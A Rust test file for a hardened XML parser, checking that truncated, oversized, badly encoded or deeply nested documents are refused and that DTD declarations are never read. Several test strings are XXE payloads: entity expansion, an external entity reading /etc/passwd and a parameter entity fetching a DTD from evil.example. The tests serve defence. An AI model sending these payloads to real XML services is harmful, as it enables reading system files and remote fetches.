//! Documents as scanners send them, and as somebody sends them who means harm.

use std::cell::Cell;
use std::io::{BufRead, BufReader, Read};
use std::rc::Rc;

use super::{Element, Fault, Limits, Xml, XmlError};

const SMALL: Limits = Limits { bytes: 1 << 30, piece_bytes: 4096 };

/// All that can be read of a document, as text: names by depth, attributes, texts.
fn outline(source: impl BufRead, limits: Limits) -> Result<String, XmlError> {
    fn descend(xml: &mut Xml<impl BufRead>, element: &Element, into: &mut String) -> Result<(), XmlError> {
        into.push_str(&xml.path());
        for name in ["a", "b"] {
            if let Some(value) = element.get(name) {
                into.push_str(&format!(" {name}={value}"));
            }
        }
        into.push('\n');
        while let Some(child) = xml.child(element)? {
            if child.name() == "text" {
                into.push_str(&format!("`{}`\n", xml.text(&child)?));
            } else {
                descend(xml, &child, into)?;
            }
        }
        Ok(())
    }
    let mut xml = Xml::new(source, limits);
    let mut into = String::new();
    let root = xml.root(&["root"])?;
    descend(&mut xml, &root, &mut into)?;
    xml.finish()?;
    Ok(into)
}

#[track_caller]
fn check(document: &str, wanted: &str) {
    assert_eq!(outline(document.as_bytes(), SMALL).expect(document), wanted, "{document}");
    // However the pieces arrive.
    let slowly = BufReader::with_capacity(1, document.as_bytes());
    assert_eq!(outline(slowly, SMALL).expect(document), wanted, "{document}");
}

#[track_caller]
fn refused(document: impl AsRef<[u8]>) -> String {
    let document = document.as_ref();
    let error = outline(document, SMALL).expect_err("the document is refused");
    let slowly = outline(BufReader::with_capacity(1, document), SMALL).expect_err("the document is refused");
    assert_eq!(error.fault.to_string(), slowly.fault.to_string());
    error.fault.to_string()
}

#[test]
fn elements_come_with_their_attributes_and_texts() {
    check("<root/>", "root\n");
    check(
        "<root a='1'><x b=\"&lt;&#50;\"><y/></x>\n<x/></root>\n",
        "root a=1\nroot/x b=<2\nroot/x/y\nroot/x\n",
    );
    check("<root><text> a &amp; <![CDATA[<b>]]><i>not</i> &#x63;\n</text></root>", "root\n`a & <b> c`\n");
    check("\u{feff}<?xml version='1.0' encoding='utf-8'?><!-- - --><root><?x y?><!--<x>--></root>", "root\n");
}

#[test]
fn document_types_without_declarations_are_passed_over() {
    check("<?xml version=\"1.0\"?>\n<!DOCTYPE root>\n<?xml-stylesheet href='x'?><root/>", "root\n");
    check("<!DOCTYPE root SYSTEM \"https://qualysapi.example/scan.dtd\"><root/>", "root\n");
    check("<!DOCTYPE root SYSTEM \"file:///etc/passwd\"><root><text>x</text></root>", "root\n`x`\n");
}

#[test]
fn what_is_left_of_an_element_is_passed_over() {
    let document = b"<root><x><y><z/></y>text</x><x a='2'/></root>";
    let mut xml = Xml::new(&document[..], SMALL);
    let root = xml.root(&["root"]).unwrap();
    let first = xml.child(&root).unwrap().unwrap();
    let inner = xml.child(&first).unwrap().unwrap();
    assert_eq!((first.name(), inner.name()), ("x", "y"));
    let second = xml.child(&root).unwrap().unwrap();
    assert_eq!(second.number::<u8>("a"), Some(2));
    assert!(xml.child(&first).unwrap().is_none(), "an element that has ended gives nothing of its successor");
    assert_eq!(xml.text(&inner).unwrap(), "");
    assert!(xml.child(&root).unwrap().is_none());
    xml.finish().unwrap();
}

#[test]
fn no_byte_is_asked_for_beyond_the_end_of_the_outermost_element() {
    struct Connection<'a>(&'a [u8]);
    impl Read for Connection<'_> {
        fn read(&mut self, into: &mut [u8]) -> std::io::Result<usize> {
            assert!(!self.0.is_empty(), "a connection that stays open would wait for ever");
            self.0.read(into)
        }
    }
    let source = BufReader::with_capacity(7, Connection(b"<answer status='200'><id>7</id></answer>"));
    let mut xml = Xml::new(source, SMALL);
    let answer = xml.root(&["answer"]).unwrap();
    let id = xml.child(&answer).unwrap().unwrap();
    assert_eq!(xml.text(&id).unwrap(), "7");
    assert!(xml.child(&answer).unwrap().is_none());
}

#[test]
fn declarations_are_refused_whatever_they_declare() {
    let laughs = "<!DOCTYPE root [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><root><text>&b;</text></root>";
    let external = "<!DOCTYPE root [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><root><text>&x;</text></root>";
    let parameter = "<!DOCTYPE root [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]><root/>";
    let wanted = "has a document type with declarations, which is never read";
    for document in [laughs, external, parameter, "<!DOCTYPE root []><root/>"] {
        assert_eq!(refused(document), wanted);
    }
    assert_eq!(refused("<root><text>&b;</text></root>"), "refers to the entity `b`, which is unknown");
    assert_eq!(refused("<root a='&b;'/>"), "refers to the entity `b`, which is unknown");
    assert_eq!(refused("<root><!DOCTYPE root></root>"), "is malformed: a document type within the document");
}

#[test]
fn other_documents_are_named() {
    assert_eq!(
        refused("<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title><br></head></html>"),
        "begins with `<html>`, not with `<root>`"
    );
    assert_eq!(refused("Service Unavailable\n"), "begins with `Service Unavailable`, not with `<root>`");
    assert_eq!(refused("{\"error\": 7}"), "begins with `{\"error\": 7}`, not with `<root>`");
    assert_eq!(refused(""), "ends too early");
    assert_eq!(refused("  \n"), "ends too early");
}

#[test]
fn a_document_that_was_cut_anywhere_is_refused() {
    let document = "<?xml version=\"1.0\"?><!DOCTYPE root><root a='1'><x b=\"2\"/><!-- c --><text>d&amp;<![CDATA[e]]></text></root>";
    for length in 0..document.len() {
        let error = outline(&document.as_bytes()[..length], SMALL).expect_err(&document[..length]);
        let is_cut = matches!(error.fault, Fault::Truncated | Fault::Malformed(_));
        assert!(is_cut, "{length}: {error}");
    }
}

#[test]
fn what_follows_the_end_is_refused() {
    for document in ["<root/><root/>", "<root/>x", "<root/>&amp;", "<root/><!DOCTYPE x []>"] {
        assert!(outline(document.as_bytes(), SMALL).is_err(), "{document}");
    }
    assert_eq!(refused("<root/>\n<html>"), "goes on after its end");
}

#[test]
fn broken_grammar_and_broken_text_are_refused() {
    assert!(refused("<root><x></root>").starts_with("is malformed: "));
    assert!(refused("<root a='1' a='2'/>").starts_with("is malformed: "));
    assert!(refused("<root a=1/>").starts_with("is malformed: "));
    assert_eq!(refused(b"<root><text>\xff\xfe</text></root>"), "is not in UTF-8");
    assert_eq!(refused(b"<root a='\xc3'/>"), "is not in UTF-8");
    assert_eq!(refused("<?xml version='1.0' encoding='ISO-8859-1'?><root/>"), "is not in UTF-8");
    assert_eq!(refused(b"<root><text>a\0b</text></root>"), "holds a NUL");
    assert_eq!(refused(b"<ro\0ot/>"), "holds a NUL");
    assert!(outline(&b"<root><text>&#0;</text></root>"[..], SMALL).is_err());
    assert!(outline(&b"<\0r\0o\0o\0t\0/\0>\0"[..], SMALL).is_err(), "UTF-16");
}

/// Gives a beginning, then one piece over and over, up to so many bytes; counts what was taken.
struct Endless {
    beginning: &'static [u8],
    piece: &'static [u8],
    place: usize,
    left: u64,
    taken: Rc<Cell<u64>>,
}

impl Read for Endless {
    fn read(&mut self, into: &mut [u8]) -> std::io::Result<usize> {
        let from = if self.beginning.is_empty() { &self.piece[self.place..] } else { self.beginning };
        let count = from.len().min(into.len()).min(usize::try_from(self.left).unwrap());
        into[..count].copy_from_slice(&from[..count]);
        if self.beginning.is_empty() {
            self.place = (self.place + count) % self.piece.len();
        } else {
            self.beginning = &self.beginning[count..];
        }
        self.left -= count as u64;
        self.taken.set(self.taken.get() + count as u64);
        Ok(count)
    }
}

/// What is said of a document of 1 GiB, and how many bytes of it were read.
fn endless(beginning: &'static str, piece: &'static str, limits: Limits) -> (String, u64) {
    let taken = Rc::new(Cell::new(0));
    let (beginning, piece) = (beginning.as_bytes(), piece.as_bytes());
    let source = Endless { beginning, piece, place: 0, left: 1 << 30, taken: Rc::clone(&taken) };
    let error = outline(BufReader::new(source), limits).expect_err("a document without an end is refused");
    (error.fault.to_string(), taken.get())
}

#[test]
fn a_document_without_an_end_is_refused_within_its_bounds() {
    // What the parser's own buffer takes ahead comes on top.
    const AHEAD: u64 = 32 << 10;
    let long = "has a piece longer than 4096 bytes";
    for (beginning, piece, wanted) in [
        ("<root>", "<x>", "is nested deeper than 64 elements"),
        ("<root><text>", "<text>", "is nested deeper than 64 elements"),
        ("<root>", "text ", long),
        ("<root><text>", "text ", long),
        ("<root><text>", "<!-- -->text &amp; ", long),
        ("<root><text>", "<![CDATA[text]]>", long),
        ("<root><text><![CDATA[", "x", long),
        ("<root", " ", long),
        ("<root ", "a='1' ", long),
        ("<root a='", "&#32;", long),
        ("<root><", "name", long),
        ("<root></", "name", long),
        ("<root><!--", "-", long),
        ("<!DOCTYPE ", "root ", long),
        ("<!DOCTYPE root [", "<!ENTITY a 'b'>", long),
        ("<?xml ", "x", long),
    ] {
        let (told, taken) = endless(beginning, piece, SMALL);
        assert_eq!(told, wanted, "{beginning}{piece}{piece}");
        assert!(taken < AHEAD, "{taken} bytes of {beginning}{piece}{piece}");
    }
    let short = Limits { bytes: 100_000, ..SMALL };
    for (beginning, piece) in [
        ("", "<!-- x -->"),
        ("", "\n<?x?>"),
        ("<root>", "<x/>"),
        ("<root>", "<x>y</x>"),
        ("<root/>", "<!-- -->"),
    ] {
        let (told, taken) = endless(beginning, piece, short);
        assert_eq!(told, "is longer than 100000 bytes", "{beginning}{piece}{piece}");
        assert!(taken < short.bytes + AHEAD, "{taken} bytes of {beginning}{piece}{piece}");
    }
}

#[test]
fn many_attributes_and_long_names_are_refused() {
    let many: String = (0..65).map(|number| format!(" a{number}='x'")).collect();
    assert_eq!(refused(format!("<root{many}/>")), "has an element with more than 64 attributes");
    let name = "n".repeat(300);
    assert!(refused(format!("<root><{name}/></root>")).starts_with("is malformed: a name longer"));
}

#[test]
fn an_error_says_where() {
    let error = outline(&b"<root><x><y>&z;</y></x></root>"[..], SMALL).unwrap_err();
    let told = error.to_string();
    assert!(told.starts_with("XML at byte "), "{told}");
    assert!(told.contains("/x/y`: refers to the entity `z`, which is unknown"), "{told}");
}
